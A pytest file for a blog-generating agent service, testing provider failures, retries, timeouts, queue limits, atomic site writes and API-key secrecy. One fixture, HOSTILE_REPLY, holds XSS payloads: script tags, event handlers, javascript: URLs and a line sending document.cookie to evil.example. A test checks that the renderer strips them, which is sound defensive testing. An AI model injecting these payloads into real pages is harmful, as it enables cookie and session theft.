"""Provider faults end in a stated final state with an error a user understands.

The shared agent runs with a 3 s inactivity timeout and one provider retry; bounds below are
logical (finished long before the job's 90 s total timeout), never wall-clock assertions.
"""

from __future__ import annotations

import hashlib
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.site.htmlcheck import dangerous_parts
from tests.support.agent_process import TEST_API_KEY, AgentProcess
from tests.support.processes import free_port
from tests.support.scripted_provider import ScriptedProvider

HOSTILE_REPLY = """# Hostile post

A summary with <script>alert('summary')</script> inside.

<script>document.location='https://evil.example/?c='+document.cookie</script>

<img src=x onerror="alert('img')">

[click me](javascript:alert('link')) and [data](data:text/html;base64,PHNjcmlwdD4=)

<a href="javascript:alert(1)" onclick="alert(2)">raw link</a>

<iframe src="https://evil.example"></iframe>

<div style="background:url(javascript:alert(3))" onmouseover="alert(4)">raw div</div>

```html
<script>alert('in code: shown as text')</script>
```
"""


def _events(agent: AgentProcess, job_id: str) -> list[dict]:
    return agent.events(job_id)


def test_http_400_fails_at_once_without_retry(
    agent: AgentProcess, provider: ScriptedProvider
) -> None:
    provider.script({"kind": "http400", "times": 10})
    job = agent.wait_final(agent.submit("A rejected request")["id"])
    assert job["status"] == "failed"
    assert "rejected the request (HTTP 400)" in job["error"]
    assert job["post"] is None
    assert len(provider.requests()) == 1  # a 400 is not retried, by the CLI or by us
    events = _events(agent, job["id"])
    assert [e["event"] for e in events[-2:]] == ["error", "status"]
    assert events[-2]["data"]["message"] == job["error"]
    assert events[-1]["data"]["status"] == "failed"


def test_http_500_is_retried_then_fails_with_a_clear_error(
    agent: AgentProcess, provider: ScriptedProvider
) -> None:
    provider.script({"kind": "http500", "times": 100})
    job = agent.wait_final(agent.submit("A broken provider")["id"], timeout=85)
    assert job["status"] == "failed"
    assert "HTTP 500" in job["error"] and "tried 2 times" in job["error"]
    runs = [e for e in _events(agent, job["id"]) if e["data"].get("status") == "running"]
    assert len(runs) == 2  # the first try and one retry (BLOGPOD_PROVIDER_RETRIES=1)


def test_a_hanging_provider_hits_the_inactivity_timeout_and_a_retry_succeeds(
    agent: AgentProcess, provider: ScriptedProvider
) -> None:
    provider.script({"kind": "hang"})
    job = agent.wait_final(agent.submit("A provider that hangs once")["id"])
    assert job["status"] == "succeeded", job["error"]
    runs = [e for e in _events(agent, job["id"]) if e["data"].get("status") == "running"]
    assert len(runs) == 2
    assert [r["behaviour"]["kind"] for r in provider.requests()][:2] == ["hang", "ok"]


def test_a_provider_that_always_hangs_fails_with_the_inactivity_error(
    agent: AgentProcess, provider: ScriptedProvider
) -> None:
    provider.script({"kind": "hang", "times": 10})
    job = agent.wait_final(agent.submit("A provider that always hangs")["id"])
    assert job["status"] == "failed"
    assert "sent nothing for 3 s" in job["error"] and "tried 2 times" in job["error"]


def test_a_dropped_stream_is_retried_and_the_draft_restarts(
    agent: AgentProcess, provider: ScriptedProvider
) -> None:
    provider.script({"kind": "drop", "after": 20})
    job = agent.wait_final(agent.submit("A stream that drops")["id"])
    assert job["status"] == "succeeded", job["error"]
    with agent.client() as c:
        markdown = c.get(f"/api/v1/posts/{job['post']['slug']}").json()["markdown"]
    assert markdown.count("# A stream that drops: a field guide") == 1
    events = _events(agent, job["id"])
    text = ""
    for event in events:  # a `status: running` event restarts the draft
        if event["event"] == "status" and event["data"]["status"] == "running":
            text = ""
        elif event["event"] == "delta":
            text += event["data"]["text"]
    assert text.strip() == markdown.strip()
    assert len(provider.requests()) >= 2


def _site_snapshot(site: Path) -> dict[str, str]:
    return {
        str(p.relative_to(site)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(site.rglob("*"))
        if p.is_file()
    }


@pytest.fixture
def blocked_feed(agent: AgentProcess) -> Iterator[Path]:
    """Make the feed path a folder so the next publish fails; put the feed back afterwards."""
    agent.wait_final(agent.submit("A post before the failure")["id"])
    feed = agent.site_dir / "feed.xml"
    saved = feed.read_bytes()
    feed.unlink()
    feed.mkdir()
    (feed / "blocker").write_text("a folder where the feed should be")
    yield feed
    shutil.rmtree(feed)
    feed.write_bytes(saved)


def test_a_failed_site_write_fails_the_job_and_leaves_the_site_unchanged(
    agent: AgentProcess, blocked_feed: Path
) -> None:
    before = _site_snapshot(agent.site_dir)
    job = agent.wait_final(agent.submit("A post that cannot be written")["id"])
    assert job["status"] == "failed"
    assert job["error"].startswith("The post could not be published")
    assert "feed.xml" in job["error"]
    assert _site_snapshot(agent.site_dir) == before
    with agent.client() as c:
        titles = [p["title"] for p in c.get("/api/v1/posts").json()]
    assert not any("cannot be written" in t for t in titles)


def test_hostile_model_output_is_rendered_harmless(
    agent: AgentProcess, provider: ScriptedProvider
) -> None:
    provider.script({"kind": "ok", "reply": HOSTILE_REPLY})
    job = agent.wait_final(agent.submit("Anything")["id"])
    assert job["status"] == "succeeded", job["error"]
    slug = job["post"]["slug"]
    page = (agent.site_dir / "posts" / slug / "index.html").read_text()
    index = (agent.site_dir / "index.html").read_text()
    feed = (agent.site_dir / "feed.xml").read_text()
    assert dangerous_parts(page) == []
    assert dangerous_parts(index) == []
    assert "<script" not in feed.lower()
    assert "Hostile post" in page and "in code: shown as text" in page  # the prose survives


def test_the_api_key_never_appears_in_logs_or_responses(
    agent: AgentProcess, provider: ScriptedProvider
) -> None:
    provider.script({"kind": "http400"})
    failed = agent.wait_final(agent.submit("Key check, failing")["id"])
    ok = agent.wait_final(agent.submit("Key check, working")["id"])
    assert (failed["status"], ok["status"]) == ("failed", "succeeded")
    assert provider.requests()[-1]["has_api_key"]  # the key was in use...
    logs = agent.logs()
    assert "copilot" in logs and "job finished" in logs  # ...the logs are real (DEBUG level)...
    assert TEST_API_KEY not in logs  # ...and never show it
    with agent.client() as c:
        bodies = [
            c.get("/api/v1/jobs", params={"limit": 500}).text,
            c.get("/metrics").text,
            c.get("/readyz").text,
            *(e for j in (failed, ok) for e in [str(agent.events(j["id"]))]),
        ]
    assert all(TEST_API_KEY not in body for body in bodies)


@pytest.fixture(scope="module")
def unreachable_agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AgentProcess]:
    """An agent whose provider refuses connections; one worker and a queue of one."""
    from tests.agent.conftest import publish_default_skills

    process = AgentProcess(
        tmp_path_factory.mktemp("unreachable"),
        f"http://127.0.0.1:{free_port()}/v1",
        overrides={
            "BLOGPOD_PROVIDER_RETRIES": "0",
            "BLOGPOD_MAX_CONCURRENT_JOBS": "1",
            "BLOGPOD_QUEUE_SIZE": "1",
            "BLOGPOD_INACTIVITY_TIMEOUT_S": "60",
        },
    )
    process.skills_dir.mkdir(parents=True)
    publish_default_skills(process.skills_dir)
    process.start()
    yield process
    process.stop()


def test_a_refused_connection_fails_with_a_clear_error_and_a_full_queue_answers_429(
    unreachable_agent: AgentProcess,
) -> None:
    agent = unreachable_agent
    running = agent.submit("Nobody is listening")["id"]
    agent.wait_status(running, "running")
    queued = agent.submit("Waiting in the queue")["id"]
    with agent.client() as c:
        full = c.post("/api/v1/posts", json={"topic": "One too many"})
        assert c.delete(f"/api/v1/jobs/{queued}").json()["status"] == "cancelled"
    assert full.status_code == 429
    assert full.headers["content-type"].startswith("application/problem+json")
    assert int(full.headers["retry-after"]) >= 1
    assert full.json()["retry_after"] == int(full.headers["retry-after"])

    job = agent.wait_final(running, timeout=85)
    assert job["status"] == "failed"
    assert "could not be reached" in job["error"]
    assert TEST_API_KEY not in agent.logs()
